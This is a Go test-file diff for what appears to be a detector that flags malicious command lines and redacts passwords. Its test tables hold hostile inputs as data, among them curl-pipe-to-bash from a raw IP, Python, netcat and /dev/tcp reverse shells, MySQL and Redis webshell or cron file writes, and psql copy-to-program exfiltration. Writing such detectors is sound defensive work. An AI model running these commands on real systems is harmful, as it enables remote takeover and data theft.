@@ -318,3 +318,84 @@ func BenchmarkHistory(b *testing.B) {
 		enginetest.RunTarget(b, New(), tg, engine.Options{})
 	}
 }
+
+func TestGradeLineShapes(t *testing.T) {
+	tests := []struct {
+		sh   shape
+		line string
+		want string // indicator, "" for none
+	}{
+		{shShell, "curl -s http://203.0.113.9/x | bash", "download-exec"},
+		{shShell, "curl -fsSL https://sh.rustup.rs | sh", indInstaller},
+		{shShell, "wget https://example.com/a.tar.gz", ""},
+		{shShell, "/root/.acme.sh/acme.sh --cron --home /root/.acme.sh", ""},
+		{shShell, "/srv/app/.venv/bin/python manage.py migrate", ""},
+		{shShell, "/usr/lib/.x/.y/run", "exec-hidden-path"},
+		{shShell, "/home/u/.local/.cache/x", "exec-hidden-path"},
+		{shPython, "import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", "reverse-shell.script"},
+		{shPython, "import os; os.listdir('/tmp')", ""},
+		{shNode, "require('child_process').exec('id'); new (require('net').Socket)()", "reverse-shell.script"},
+		{shMySQL, "select 1 into dumpfile '/usr/lib/mysql/plugin/udf.so'", indSQLFileWrite},
+		{shMySQL, "select a,b into outfile '/tmp/export.csv' from t", ""},
+		{shMySQL, "set global general_log_file='/var/www/html/x.php'", indSQLFileWrite},
+		{shMySQL, "\\! nc -e /bin/sh 203.0.113.9 4444", "reverse-shell.nc"},
+		{shPsql, "system id", ""},
+		{shPsql, "copy t to program 'curl -d @- http://x'", indSQLProgram},
+		{shRedis, "config set dir /var/spool/cron/crontabs", indRedisWrite},
+		{shRedis, "config set dbfilename shell.php", indRedisWrite},
+		{shRedis, "module load /tmp/exp.so", indRedisModule},
+		{shRedis, "module load /usr/lib/redis/modules/rejson.so", ""},
+	}
+	for _, tc := range tests {
+		hs := gradeLine(tc.sh, tc.line)
+		found := tc.want == ""
+		for _, h := range hs {
+			if h.id == tc.want {
+				found = true
+			}
+		}
+		if !found || (tc.want == "" && len(hs) > 0) {
+			t.Errorf("%q: hits %+v, want %q", tc.line, hs, tc.want)
+		}
+	}
+}
+
+func FuzzGradeLine(f *testing.F) {
+	f.Add("curl x | sh")
+	f.Add("\\! bash -i >& /dev/tcp/1.2.3.4/1 0>&1")
+	f.Add("config set dir /root/.ssh")
+	f.Fuzz(func(t *testing.T, s string) {
+		for sh := shShell; sh <= shRedis; sh++ {
+			for _, h := range gradeLine(sh, s) {
+				if h.id == "" || ruleFor(h.id) == "" {
+					t.Fatalf("bad hit %+v", h)
+				}
+			}
+		}
+	})
+}
+
+func TestSecretHit(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"mysql -uroot -pS3cret db", "mysql -uroot -p**** db"},
+		{"mysqldump --password='a b' db", "mysqldump --password=**** db"},
+		{"sshpass -p hunter2 ssh root@h", "sshpass -p **** ssh root@h"},
+		{"PGPASSWORD=pw psql -h db", "PGPASSWORD=**** psql -h db"},
+		{"curl -u bob:pw https://x", "curl -u bob:**** https://x"},
+		{"git clone https://u:tok@github.com/a/b https://v:tok2@x", "git clone https://u:****@github.com/a/b https://v:****@x"},
+		{"redis-cli -a pw info", "redis-cli -a **** info"},
+		{"echo 'bob:pw' | chpasswd", "echo 'bob:****' | chpasswd"},
+		{"export DB_PASSWORD=pw", "export DB_PASSWORD=****"},
+		{"docker login -u me -p tok registry.io", "docker login -u me -p **** registry.io"},
+		{"mysql -u root -p", ""},
+		{"export TOKEN=$(cat f)", ""},
+		{"scp f alice@10.0.0.1:/srv", ""},
+		{"ls -p", ""},
+	}
+	for _, tc := range tests {
+		got, ok := secretHit(tc.in)
+		if ok != (tc.want != "") || (ok && got != tc.want) {
+			t.Errorf("%q -> %q %v, want %q", tc.in, got, ok, tc.want)
+		}
+	}
+}
